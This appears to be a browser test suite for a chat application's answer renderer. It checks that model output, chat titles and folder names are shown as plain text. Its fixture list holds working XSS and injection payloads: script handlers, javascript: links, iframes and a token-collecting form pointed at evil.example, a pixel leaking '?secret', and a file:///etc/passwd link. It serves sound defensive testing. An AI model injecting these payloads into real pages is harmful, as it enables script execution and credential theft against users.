// A model is not trusted: whatever its text holds, it runs nothing, loads nothing and leads nowhere by itself.
// The stand-in repeats the first two hundred characters of a question in its answer, so that it says what a test wants.
// That the page asked no other host for anything is looked at after every test.

import assert from 'node:assert/strict';
import { describe } from 'node:test';
import { ask, becomes, call, chatRows, fileRow, signedIn, walkTo } from './oriel.mjs';

const ATTACKS = [
  ['a script', '\n\n<script>window.pwned = 1</script>'],
  ['a handler', '\n\n<img src=x onerror="window.pwned = 1"><svg onload="window.pwned = 1"></svg>'],
  [
    'a handler inside a line',
    'see <b onmouseover="window.pwned = 1">this</b> <details open ontoggle="window.pwned=1">',
  ],
  ['a frame', '\n\n<iframe src="https://evil.example/"></iframe>\n<object data="https://evil.example/x"></object>'],
  ['a style sheet', '\n\n<link rel=stylesheet href=https://evil.example/x.css><style>body{display:none}</style>'],
  ['a form', '\n\n<form action="https://evil.example/"><input name=token><button>Sign in again</button></form>'],
  [
    'a redirection',
    '\n\n<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
  ],
  [
    'a link that is a script',
    '[one](javascript:window.pwned=1) [two](JaVaScRiPt:window.pwned=1) <javascript:window.pwned=1>',
  ],
  ['a link that is a page', '[page](data:text/html,<script>window.pwned=1</script>) [file](file:///etc/passwd)'],
  [
    'a link to the program itself',
    '[in](oriel://auth/callback?code=x&state=y) [root](/door/account.signOut) [here](#x)',
  ],
  [
    'a link with a tail',
    '[a](https://example.org/"onclick="window.pwned=1) [b](https://example.org/ "x\\" onclick=pwned=1")',
  ],
  [
    'a picture elsewhere',
    '![x](https://evil.example/pixel.png?secret) ![y](//evil.example/p.gif) [![z](http://evil.example/z.png)](https://a.example)',
  ],
  [
    'a picture that is a page',
    '![x](data:text/html;base64,PHNjcmlwdD4=) ![y](data:image/svg+xml,<svg onload=pwned=1>)',
  ],
  ['a reference', '[x][1] ![y][2]\n\n[1]: javascript:window.pwned=1\n[2]: https://evil.example/r.png\n\n'],
  [
    'a formula',
    '$\\href{javascript:window.pwned=1}{x}$ $\\includegraphics{https://evil.example/f.png}$ $\\style{x:y}{z}$ $\\class{a}{b}$',
  ],
  ['a formula without end', '$\\def\\a{\\a\\a}\\a$ $\\rule{99999em}{99999em}$'],
  ['an entity', '&lt;script&gt;window.pwned=1&lt;/script&gt; [x](&#106;avascript:window.pwned=1)'],
  [
    'a code fence',
    '\n\n```html"><script>window.pwned=1</script>\n</code></pre><script>window.pwned=1</script>\n```\n\n',
  ],
  ['a thousand levels', `\n\n${'>'.repeat(90)}${'- '.repeat(40)}`],
];

/** What must not be in an answer, or of it anywhere in the page. */
const found = (answer) =>
  answer.evaluate((article) => {
    const forbidden =
      'script, iframe, object, embed, link, style, meta, base, form, input:not([type=checkbox]), details, video, audio';
    const all = [...article.querySelectorAll('*')];
    return {
      elements: [...article.querySelectorAll(forbidden)].map(({ tagName }) => tagName),
      handlers: all.flatMap(({ attributes }) =>
        [...attributes].map(({ name }) => name).filter((name) => /^on/.test(name)),
      ),
      links: [...article.querySelectorAll('a, [href]')]
        .map(({ href }) => href)
        .filter((href) => !/^(https?|mailto):/.test(href)),
      pictures: [...article.querySelectorAll('img, image, [src]')]
        .map(({ src }) => src)
        .filter((src) => !/^data:image\/png/.test(src)),
      wide: document.documentElement.scrollWidth > innerWidth,
      ran: window.pwned ?? null,
    };
  });

const NOTHING = { elements: [], handlers: [], links: [], pictures: [], wide: false, ran: null };

describe('what a model says', () => {
  signedIn('is drawn as text whatever it holds', async ({ page, address }) => {
    for (const [name, attack] of ATTACKS) {
      // The end of a question is cut off; what it asks for is heard all the same.
      const question = `${attack}`.padEnd(200).concat('\nA short answer, please.');
      const answer = await ask(page, `x ${question}`);
      assert.deepEqual(await found(answer), NOTHING, name);
      await answer.getByText('You said:').first().waitFor();
    }
    for (const link of await page.getByRole('log').getByRole('link').all()) await link.hover();
    assert.equal(page.url(), `${address}/`);
    assert.equal(await page.evaluate(() => window.pwned ?? null), null);
  });

  signedIn('shows tags as they were written', async ({ page }) => {
    const answer = await ask(page, 'a short answer with\n\n<b onclick="x()">bold</b>\n\n<script>alert(1)</script>');
    await answer.getByText('<b onclick="x()">bold</b>').waitFor();
    await answer.getByText('<script>alert(1)</script>').first().waitFor();
  });

  signedIn('names a picture that lies elsewhere and does not fetch it', async ({ page }) => {
    const answer = await ask(page, 'short answer ![a cat](https://evil.example/cat.png)');
    await answer.getByText('a cat, not loaded').waitFor();
    await answer.getByRole('link', { name: 'https://evil.example/cat.png' }).waitFor();
  });

  signedIn('cannot hide where a link leads', async ({ page, address, commands }) => {
    const answer = await ask(page, 'short answer [https://puter.com](https://puter.com@evil.example/login)');
    const link = answer.getByRole('link', { name: 'https://puter.com' });
    assert.match(await link.getAttribute('title'), /^evil\.example · /);
    // Neither a middle click nor a click with Ctrl opens a window inside Oriel.
    await link.click({ button: 'middle' });
    await link.click({ modifiers: ['Control'] });
    await becomes(async () => commands.filter(({ name }) => name === 'link.open').length, 2);
    assert.equal(page.context().pages().length, 1);
    assert.equal(page.url(), `${address}/`);
  });
});

describe('names from elsewhere', () => {
  const NAME = '<img src=x onerror=pwned=1>';

  signedIn('a chat whose title is a tag has a tag for a title', async ({ page }) => {
    await ask(page, `${NAME} short answer`);
    await becomes(() => chatRows(page).first().innerText(), `${NAME} short answer`);
    assert.equal(await page.evaluate(() => window.pwned ?? null), null);
  });

  signedIn('a folder whose name is a tag has a tag for a name', async ({ page, address }) => {
    await call(address, 'files.makeFolder', { folder: '~/Documents', name: NAME });
    await walkTo(page, 'Documents');
    await fileRow(page, NAME).waitFor();
    assert.equal(await page.evaluate(() => window.pwned ?? null), null);
  });
});
